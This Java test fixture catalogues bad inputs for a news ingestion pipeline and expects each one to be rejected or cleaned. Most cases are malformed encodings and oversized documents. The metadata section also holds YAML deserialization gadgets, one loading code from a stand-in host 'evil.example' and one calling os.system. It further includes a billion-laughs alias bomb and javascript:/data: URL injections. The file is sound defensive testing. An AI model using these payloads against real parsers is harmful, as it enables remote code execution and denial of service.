package news.pipeline.app.badinput;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.zip.GZIPOutputStream;
import news.pipeline.avro.CanonicalArticle;
import news.pipeline.avro.ContentType;
import news.pipeline.avro.RawDocument;
import news.pipeline.producer.document.DocumentIds;
import news.pipeline.schemas.EventSerdes;

/**
 * The catalogue of bad inputs: each kind with the raw topic value that carries it and what the
 * pipeline must make of it, an article (with a check on it) or a rejection (with words its reason
 * must contain). Values are built lazily, so a 20 MB case costs memory only while it runs.
 */
final class BadInputs {

  static final Instant FETCHED = Instant.parse("2024-05-01T10:00:00Z");

  /** What a case must give. */
  sealed interface Expect {}

  /** A rejection whose reason contains {@code reasonContains}. */
  record Reject(String reasonContains) implements Expect {}

  /** A live article with this document as a member, passing {@code check}. */
  record Article(Consumer<CanonicalArticle> check) implements Expect {}

  /** One kind of bad input. */
  record Case(String name, Supplier<byte[]> value, Expect expect) {
    @Override
    public String toString() {
      return name;
    }
  }

  private BadInputs() {}

  static List<Case> all() {
    List<Case> cases = new ArrayList<>();
    // -- the record itself
    cases.add(reject("empty record value", () -> new byte[0], "empty record value"));
    cases.add(reject("binary garbage as the record value", () -> randomBytes(4096, 1), "neither an Avro"));
    cases.add(reject("truncated Avro record", () -> truncate(avro(html(page("Truncated", "body"))), 30), "not a readable RawDocument"));
    cases.add(reject("unknown schema fingerprint", BadInputs::unknownFingerprint, "not a readable RawDocument"));
    cases.add(reject("Avro header with no body", () -> Arrays.copyOf(avro(html(page("x", "y"))), 10), "not a readable RawDocument"));
    cases.add(reject("malformed JSON envelope", () -> utf8("{\"url\": \"https://a.example/x\", \"body\": \"<html"), "invalid JSON envelope"));
    cases.add(reject("JSON envelope with a number for the URL", () -> utf8("{\"url\": 5, \"body\": \"hello world\"}"), "\"url\" must be a string"));
    cases.add(reject("JSON envelope without a body", () -> utf8("{\"url\": \"https://a.example/x\"}"), "has no body"));
    cases.add(reject("JSON envelope with bad base64", () -> utf8("{\"bodyBase64\": \"%%%not base64\"}"), "not valid base64"));
    cases.add(reject("JSON envelope with an unknown content type", () -> utf8("{\"body\": \"x\", \"contentType\": \"PDF\"}"), "unknown \"contentType\""));
    cases.add(reject("JSON envelope fetched in year 0", () -> utf8("{\"body\": \"<title>Old</title>\", \"fetchedAt\": \"0000-01-01T00:00:00Z\"}"), "before 1990"));
    // -- the body
    cases.add(reject("empty body", () -> avro(doc(ContentType.HTML, null, new byte[0])), "empty body"));
    cases.add(reject("whitespace-only body", () -> avro(doc(ContentType.TEXT, null, utf8("   \n\n\t  \n"))), "no article text or title"));
    cases.add(reject("binary garbage in the body", () -> avro(doc(ContentType.HTML, null, randomBytes(8192, 2))), "binary"));
    cases.add(reject("PNG image declared as HTML", () -> avro(doc(ContentType.HTML, null, png())), "binary"));
    cases.add(reject("gzip-compressed body", () -> avro(doc(ContentType.HTML, null, gzip(utf8(page("Zipped", "text"))))), "binary"));
    cases.add(reject("UTF-16 without a byte-order mark", () -> avro(doc(ContentType.HTML, null, page("Wide", "wide text here").getBytes(Charset.forName("UTF-16LE")))), "binary"));
    cases.add(reject("20 MB document", () -> avro(doc(ContentType.HTML, null, big(20 * 1024 * 1024))), "exceeds limits.max.document.bytes"));
    cases.add(reject("100,000 nested elements", () -> avro(html("<html><body>" + "<div>".repeat(100_000) + "deep")), "limits.max.html.depth"));
    cases.add(reject("300,000 sibling elements", () -> avro(html("<html><body>" + "<span>a</span>".repeat(300_000))), "limits.max.html.elements"));
    cases.add(reject("a page of scripts only", () -> avro(html("<html><head>" + "<script>var a = '<div>' + 1;</script>".repeat(200) + "</head><body><script>x()</script></body></html>")), "no article text or title"));
    cases.add(reject("an HTML skeleton with nothing in it", () -> avro(html("<html><head></head><body></body></html>")), "no article text or title"));
    cases.add(reject("fetch time in year 3000", () -> avro(doc(ContentType.HTML, null, utf8(page("Future", "text")), Instant.parse("3000-01-01T00:00:00Z"))), "in the future"));
    cases.add(article("invalid UTF-8", () -> avro(doc(ContentType.HTML, null, invalidUtf8())), a -> assertTitle(a, "Broken bytes")));
    cases.add(article("UTF-8 page declared Shift_JIS", () -> avro(doc(ContentType.HTML, "Shift_JIS", utf8(page("Café society returns", "Crème brûlée for everyone at the café.")))), a -> assertTitle(a, "Café society returns")));
    cases.add(article("Latin-1 page declared UTF-8", () -> avro(doc(ContentType.HTML, "utf-8", page("Fête de la musique", "Une fête réussie.").getBytes(Charset.forName("ISO-8859-1")))), a -> assertTitle(a, "F")));
    cases.add(article("unknown charset name", () -> avro(doc(ContentType.HTML, "x-no-such-charset", utf8(page("Charset nobody knows", "text")))), a -> assertTitle(a, "Charset nobody knows")));
    cases.add(article("NUL bytes in a text page", () -> avro(doc(ContentType.HTML, null, utf8(page("Nul\u0000 bytes in the title", "Some\u0000 text with\u0000 NULs in it. " + "A long paragraph of ordinary words follows them. ".repeat(20))))), a -> check(a.getTitle() + a.getText(), !(a.getTitle() + a.getText()).contains("\u0000"), "no NUL survives")));
    cases.add(article("unclosed tags", () -> avro(html("<html><head><title>Unclosed tags everywhere<body><h1>Unclosed tags everywhere<p>First paragraph <b>bold <i>italic<div>more text that goes on")), a -> assertTitle(a, "Unclosed tags everywhere")));
    cases.add(article("1 MB attribute value", () -> avro(html("<html><head><title>Huge attribute</title></head><body><div data-x=\"" + "x".repeat(1 << 20) + "\"><p>Text beside a huge attribute.</p></div></body></html>")), a -> assertTitle(a, "Huge attribute")));
    cases.add(reject("2 MB text dump of one repeated word on one line", () -> avro(doc(ContentType.TEXT, null, utf8("word ".repeat(400_000)))), "no article text or title"));
    cases.add(article("100 KB title", () -> avro(html(page("headline ".repeat(12_000), "text"))), a -> check(a.getTitle().length(), a.getTitle().length() <= 501, "title capped at limits.max.title.chars")));
    cases.add(article("emoji-only title", () -> avro(html(page("🔥🔥🚀😱", "Body text about fire and rockets."))), a -> assertTitle(a, "🔥🔥🚀😱")));
    cases.add(article("right-to-left text", () -> avro(html("<html dir=\"rtl\" lang=\"ar\"><head><title>مجلس المدينة يوافق على خطة الحديقة الجديدة</title></head><body><article><p>وافق مجلس المدينة يوم الثلاثاء على خطة الحديقة الجديدة على ضفاف النهر.</p></article></body></html>")), a -> assertTitle(a, "مجلس المدينة")));
    cases.add(article("bidi override characters in the title", () -> avro(html(page("Invoice \u202Efdp.exe\u202C update", "text"))), a -> assertTitle(a, "Invoice fdp.exe update")));
    cases.add(article("javascript: canonical URL", () -> avro(html("<html><head><title>Script link</title><link rel=\"canonical\" href=\"javascript:alert(1)\"></head><body><p>Text.</p></body></html>")), a -> noBadUrls(a)));
    cases.add(article("data: URL in a metadata record", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Data URL record\", \"url\": \"data:text/html;base64,PHNjcmlwdD4=\"}"))), a -> noBadUrls(a)));
    cases.add(article("malformed fetch URL", () -> avro(docWithUrl("http://[::1/oops path", utf8(page("Malformed URL", "text")))), a -> noBadUrls(a)));
    cases.add(article("published in year 0", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Year zero story\", \"url\": \"https://news.example/y0\", \"datePublished\": \"0000-01-01T00:00:00Z\"}"))), a -> check(a.getPublishedAt(), a.getPublishedAt() == null, "year 0 dropped")));
    cases.add(article("published in year 3000", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Year three thousand story\", \"url\": \"https://news.example/y3000\", \"datePublished\": \"3000-06-01T00:00:00Z\"}"))), a -> check(a.getPublishedAt(), a.getPublishedAt() == null, "year 3000 dropped")));
    cases.add(article("unparseable date", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Bad date story\", \"url\": \"https://news.example/bd\", \"datePublished\": \"yesterday-ish\"}"))), a -> check(a.getPublishedAt(), a.getPublishedAt() == null, "no date")));
    cases.add(article("epoch overflow date", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Overflow date story\", \"url\": \"https://news.example/ov\", \"datePublished\": 99999999999999999}"))), a -> check(a.getPublishedAt(), a.getPublishedAt() == null, "no date")));
    // -- metadata records
    cases.add(reject("YAML alias bomb", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8(aliasBomb()))), "invalid or unsafe YAML"));
    cases.add(reject("YAML with an unsafe Java type tag", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8("---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n---\n"))), "invalid or unsafe YAML"));
    cases.add(reject("YAML with a python object tag", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8("---\ntitle: !!python/object/apply:os.system [\"id\"]\n---\n"))), "invalid or unsafe YAML"));
    cases.add(reject("front matter with no closing fence", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8("---\ntitle: Never closed\nurl: https://news.example/nc\n"))), "no closing '---' fence"));
    cases.add(reject("front matter that is a list", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8("---\n- a\n- b\n---\n"))), "not a mapping"));
    cases.add(reject("YAML nested 200 deep", () -> avro(doc(ContentType.FRONT_MATTER, null, utf8("---\ntitle: " + "[".repeat(200) + "]".repeat(200) + "\n---\n"))), "invalid or unsafe YAML"));
    cases.add(reject("JSON record with wrong types", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": [\"a\"], \"url\": 5, \"datePublished\": true}"))), "names no article"));
    cases.add(reject("JSON record with no known field", () -> avro(doc(ContentType.JSON, null, utf8("{\"foo\": \"bar\"}"))), "names no article"));
    cases.add(reject("JSON record that is an array", () -> avro(doc(ContentType.JSON, null, utf8("[1, 2, 3]"))), "not a mapping"));
    cases.add(reject("JSON nested 1,000 deep", () -> avro(doc(ContentType.JSON, null, utf8("{\"a\":" + "[".repeat(1000) + "]".repeat(1000) + "}"))), "invalid JSON record"));
    cases.add(reject("truncated JSON record", () -> avro(doc(ContentType.JSON, null, utf8("{\"title\": \"Cut off"))), "invalid JSON record"));
    cases.add(article("JSON record with 10,000 related articles", () -> avro(doc(ContentType.JSON, null, utf8(relatedBomb(10_000)))), a -> assertTitle(a, "Related bomb")));
    return cases;
  }

  // ---- helpers that build inputs

  static Case reject(String name, Supplier<byte[]> value, String reason) {
    return new Case(name, value, new Reject(reason));
  }

  static Case article(String name, Supplier<byte[]> value, Consumer<CanonicalArticle> check) {
    return new Case(name, value, new Article(check));
  }

  static String page(String title, String text) {
    return "<html><head><title>" + title + "</title></head><body><article><h1>" + title + "</h1><p>" + text
        + "</p></article></body></html>";
  }

  static RawDocument html(String html) {
    return doc(ContentType.HTML, null, utf8(html));
  }

  static RawDocument doc(ContentType type, String charset, byte[] body) {
    return doc(type, charset, body, FETCHED);
  }

  static RawDocument doc(ContentType type, String charset, byte[] body, Instant fetchedAt) {
    String url = "https://bad-input.example/" + DocumentIds.sha256Hex(body).substring(0, 12);
    return RawDocument.newBuilder()
        .setId(DocumentIds.of(url, body))
        .setUrl(url)
        .setContentType(type)
        .setCharset(charset)
        .setBody(ByteBuffer.wrap(body))
        .setFetchedAt(fetchedAt)
        .setSource("bad-input-suite")
        .setHeaders(new LinkedHashMap<>())
        .setMetadata(new LinkedHashMap<>())
        .build();
  }

  static RawDocument docWithUrl(String url, byte[] body) {
    RawDocument doc = html(new String(body, UTF_8));
    doc.setUrl(url);
    doc.setId(DocumentIds.of(url, body));
    return doc;
  }

  static byte[] avro(RawDocument doc) {
    return EventSerdes.rawDocument().encode(doc);
  }

  static byte[] utf8(String text) {
    return text.getBytes(UTF_8);
  }

  static byte[] randomBytes(int n, long seed) {
    byte[] bytes = new byte[n];
    new Random(seed).nextBytes(bytes);
    bytes[0] = 0x00; // neither the Avro marker nor '{'
    return bytes;
  }

  static byte[] truncate(byte[] bytes, int keep) {
    return Arrays.copyOf(bytes, Math.min(keep, bytes.length));
  }

  static byte[] unknownFingerprint() {
    byte[] bytes = avro(html(page("Unknown schema", "text")));
    for (int i = 2; i < 10; i++) {
      bytes[i] = (byte) (bytes[i] ^ 0x5A);
    }
    return bytes;
  }

  static byte[] png() {
    byte[] bytes = randomBytes(2048, 3);
    byte[] magic = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R'};
    System.arraycopy(magic, 0, bytes, 0, magic.length);
    return bytes;
  }

  static byte[] gzip(byte[] bytes) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
      gz.write(bytes);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
    return out.toByteArray();
  }

  static byte[] big(int size) {
    byte[] prefix = utf8("<html><head><title>Huge</title></head><body><p>");
    byte[] bytes = new byte[size];
    Arrays.fill(bytes, (byte) 'a');
    System.arraycopy(prefix, 0, bytes, 0, prefix.length);
    return bytes;
  }

  static byte[] invalidUtf8() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(utf8("<html><head><title>Broken bytes</title></head><body><p>Before "));
    out.writeBytes(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xA0, (byte) 0xE2, (byte) 0x82});
    out.writeBytes(utf8(" after the broken bytes.</p></body></html>"));
    return out.toByteArray();
  }

  static String aliasBomb() {
    StringBuilder yaml = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'j'; c++) {
      yaml.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        yaml.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      yaml.append("]\n");
      prev = c;
    }
    return yaml.append("title: Billion laughs\n---\n").toString();
  }

  static String relatedBomb(int n) {
    StringBuilder json = new StringBuilder("{\"title\": \"Related bomb\", \"url\": \"https://news.example/rb\", \"related\": [");
    for (int i = 0; i < n; i++) {
      json.append(i == 0 ? "" : ",").append("{\"title\": \"Related story number ").append(i)
          .append(" about things\", \"url\": \"https://news.example/rb/").append(i).append("\"}");
    }
    return json.append("]}").toString();
  }

  // ---- checks on articles

  static void assertTitle(CanonicalArticle article, String startsWith) {
    check(article.getTitle(), article.getTitle() != null && article.getTitle().startsWith(startsWith), "title starts with " + startsWith);
  }

  static void noBadUrls(CanonicalArticle article) {
    List<String> all = new ArrayList<>(article.getUrls());
    if (article.getUrl() != null) {
      all.add(article.getUrl());
    }
    check(all, all.stream().allMatch(u -> u.startsWith("http://") || u.startsWith("https://")) && all.stream().noneMatch(u -> u.contains(" ")), "only web URLs");
  }

  static void check(Object actual, boolean ok, String what) {
    if (!ok) {
      throw new AssertionError("expected " + what + " but was: " + abbreviate(String.valueOf(actual)));
    }
  }

  static String abbreviate(String s) {
    return s.length() > 200 ? s.substring(0, 200) + "…" : s;
  }
}
